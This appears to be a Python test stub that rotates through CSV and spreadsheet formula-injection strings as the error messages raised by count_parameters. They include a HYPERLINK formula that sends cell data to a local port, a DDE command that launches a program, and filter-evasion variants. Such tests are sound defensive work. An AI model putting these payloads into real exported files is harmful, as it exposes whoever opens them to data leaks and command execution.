"""Its error messages are spreadsheet formulas with separators, quotes and line breaks, a new one on each call.

kind: floods
outcome: raised
where: count_parameters
score: <=95
"""

_TEXTS = [
    '=HYPERLINK("http://127.0.0.1:47999/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '",=1+1,"\n=1+1;=1+1',
    "\uff1d1+1",
]


def count_parameters(module):
    _TEXTS.append(_TEXTS.pop(0))
    raise ValueError(_TEXTS[-1])
